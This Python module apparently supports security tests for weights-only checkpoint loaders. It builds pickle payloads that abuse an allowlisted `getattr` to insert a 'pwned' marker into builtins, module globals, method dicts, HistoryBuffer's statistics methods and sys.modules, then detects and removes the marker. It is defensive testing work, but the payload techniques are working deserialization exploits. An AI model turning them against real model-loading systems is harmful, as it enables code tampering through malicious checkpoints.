"""Checkpoints that do harm by what weights-only readers allow, if they are given `getattr`.

`getattr` reaches the dicts of modules and functions, and the readers fill dicts. So does the state
of a history, which becomes its attributes and changes its class's methods.
"""

import builtins
import sys
from collections import OrderedDict
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import numpy as np
import torch
from mmengine.logging import HistoryBuffer, history_buffer

_MARK = 'pwned'
# Where the payloads put the mark.
_PLACES = {
    'builtins': vars(builtins),
    "mmengine's module": vars(history_buffer),
    "torch's module": vars(torch._utils),
    'a method': vars(HistoryBuffer.mean),
    'methods': HistoryBuffer._statistics_methods,
    'sys.modules': sys.modules,
}
# What mmengine's forks mark as safe while they read.
MARKED = [getattr, HistoryBuffer, np.ndarray, np.dtype, type(np.dtype('f8'))]


class _Pickled:
    """Pickles as a call, with a state and items for what it returns."""

    def __init__(self, function, *args, state=None, items=()) -> None:
        self.parts = function, args, state, None
        self.items = items

    def __reduce__(self) -> tuple:
        # An iterator anew: payloads are written more than once, and must do harm each time.
        return *self.parts, iter(self.items) if self.items else None


def _get(owner: object, *names: str, **more: object) -> object:
    for name in names[:-1]:
        owner = _Pickled(getattr, owner, name)
    return _Pickled(getattr, owner, names[-1], **more)


def _history(state: object) -> _Pickled:
    return _Pickled(HistoryBuffer, state=state)


_ITEMS = [(_MARK, 1)]
_LAYOUT = torch.serialization._get_layout  # its module imports sys
PAYLOADS: dict[str, object] = {
    'items of builtins': _get(getattr, '__self__', '__dict__', items=_ITEMS),
    'attribute of builtins': _Pickled(
        torch._tensor._rebuild_from_type_v2,
        *(getattr, _get(getattr, '__self__', '__class__'), (getattr, '__self__'), {_MARK: 1}),
    ),
    'globals of a method': _get(HistoryBuffer, 'mean', '__globals__', items=_ITEMS),
    'globals of a function': _get(torch._utils._rebuild_parameter, '__globals__', items=_ITEMS),
    'items of a method': _get(HistoryBuffer, 'mean', '__dict__', items=_ITEMS),
    'methods of histories': _history({'statistics_methods': {_MARK: 1}}),
    'modules': _get(_history(_get(_LAYOUT, '__globals__')), 'sys', 'modules', items=_ITEMS),
    'in the weights': OrderedDict(a=_get(getattr, '__self__', '__dict__', items=_ITEMS)),
}


@contextmanager
def harm() -> Iterator[list[str]]:
    """Gives a list that has, after the context, the places that were harmed, and mends them."""
    harmed: list[str] = []
    try:
        yield harmed
    finally:
        harmed += [name for name, place in _PLACES.items() if place.pop(_MARK, None)]


def write(path: Path, payload: object, **checkpoint: object) -> Path:
    """Writes a checkpoint with a payload."""
    torch.save({**checkpoint, 'payload': payload}, path)
    return path
